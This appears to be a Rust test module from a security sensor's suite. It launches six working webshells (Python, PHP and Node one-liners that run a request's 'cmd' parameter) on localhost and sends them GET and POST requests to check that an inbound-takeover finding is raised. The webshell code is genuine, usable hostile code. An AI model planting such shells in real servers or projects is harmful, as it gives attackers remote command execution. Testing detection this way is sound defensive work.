//! Webshells: a request says what is to be run, the response what it printed.

use std::net::SocketAddr;

use anyhow::{Result, ensure};
use sensor_tests::{
    carried::{COMMANDS, Least},
    lab::Lab,
    peer::{V4, call, free_port},
    suite::Case,
};

use crate::pops::LOOP_INBOUND;

/// Servers that run what a request's parameter `cmd` says, and how they are asked.
const WEBSHELLS: [(&str, &[&str], &str, Ask); 6] = [
    (
        "python_http_server",
        &["python3"],
        r#"exec /usr/bin/python3 -c 'import http.server,os,subprocess,urllib.parse
class Shell(http.server.BaseHTTPRequestHandler):
  def do_GET(self):
    q=urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query); o=subprocess.getoutput(q["cmd"][0]).encode()+b"\n"
    self.send_response(200); self.end_headers(); self.wfile.write(o)
http.server.HTTPServer((os.environ["H"],int(os.environ["P"])),Shell).serve_forever()'"#,
        Ask::Connections(get),
    ),
    (
        "python_kept_alive",
        &["python3"],
        r#"exec /usr/bin/python3 -c 'import http.server,os,subprocess,urllib.parse
class Shell(http.server.BaseHTTPRequestHandler):
  protocol_version="HTTP/1.1"
  def do_GET(self):
    q=urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query); o=os.popen(q["cmd"][0]).read().encode()
    self.send_response(200); self.send_header("Content-Length",str(len(o))); self.end_headers(); self.wfile.write(o)
http.server.ThreadingHTTPServer((os.environ["H"],int(os.environ["P"])),Shell).serve_forever()'"#,
        Ask::OneConnection(get),
    ),
    (
        "php_get",
        &["php"],
        r#"echo '<?php system($_GET["cmd"]);' >s.php; exec php -n -S $H:$P s.php"#,
        Ask::Connections(get),
    ),
    (
        "php_get_with_plus",
        &["php"],
        r#"echo '<pre><?php echo shell_exec($_REQUEST["cmd"]." 2>&1"); ?></pre>' >s.php; exec php -n -S $H:$P s.php"#,
        Ask::Connections(get_with_plus),
    ),
    (
        "php_post",
        &["php"],
        r#"echo '<?php passthru($_POST["cmd"]);' >s.php; exec php -n -S $H:$P s.php"#,
        Ask::Connections(post),
    ),
    (
        "node_kept_alive",
        &["node"],
        r#"exec node -e 'require("http").createServer((q,r)=>{ const c=new URL(q.url,"http://x").searchParams.get("cmd");
require("child_process").exec(c,(e,o)=>r.end(o)) }).listen(process.env.P,process.env.H)'"#,
        Ask::OneConnection(get_with_plus),
    ),
];

/// How a webshell is asked.
#[derive(Clone, Copy)]
enum Ask {
    /// Everything on one connection, with what makes a request of a command.
    OneConnection(fn(&str) -> String),
    /// A connection for each request.
    Connections(fn(&str) -> String),
}

fn get(command: &str) -> String {
    let command = command.replace(' ', "%20").replace('/', "%2F");
    format!("GET /s.php?cmd={command} HTTP/1.1\r\nHost: localhost\r\n\r\n")
}

fn get_with_plus(command: &str) -> String {
    let command = command.replace(' ', "+");
    format!("GET /s.php?a=1&cmd={command}&b=2 HTTP/1.1\r\nHost: localhost\r\nUser-Agent: Mozilla/5.0\r\n\r\n")
}

fn post(command: &str) -> String {
    let body = format!("cmd={}", command.replace(' ', "+"));
    let length = body.len();
    format!(
        "POST /s.php HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\n\
         Content-Length: {length}\r\n\r\n{body}"
    )
}

fn webshell(lab: &Lab<'_>, script: &str, ask: Ask) -> Result<()> {
    let addr = SocketAddr::new(V4, free_port(V4)?);
    let mut server = lab.bash(script, &[("H", "127.0.0.1"), ("P", &addr.port().to_string())])?;
    match ask {
        Ask::OneConnection(request) => {
            let mut peer = call(addr)?;
            for (command, answer) in COMMANDS {
                peer.send(request(command))?;
                peer.read_until(answer)?;
            }
            let finding = lab.risen_finding(peer.ends(), LOOP_INBOUND)?;
            drop(peer);
            lab.ended(&finding)?;
        }
        Ask::Connections(request) => {
            // One takeover, however many connections it takes.
            let mut ends = Vec::new();
            for (command, answer) in COMMANDS {
                let mut peer = call(addr)?;
                peer.send(request(command))?;
                peer.read_until(answer)?;
                ends.push(peer.ends());
            }
            if let Some(&last) = ends.last() {
                let least = Least {
                    severity: LOOP_INBOUND.severity,
                    direction: LOOP_INBOUND.direction,
                };
                lab.finding_of(last, least)?;
            }
        }
    }
    ensure!(server.try_wait()?.is_none(), "the server is gone");
    Ok(())
}

pub fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    for (name, tools, script, ask) in WEBSHELLS {
        cases.push(Case::new(format!("webshell::{name}"), tools, move |lab| {
            webshell(lab, script, ask)
        }));
    }
    cases
}
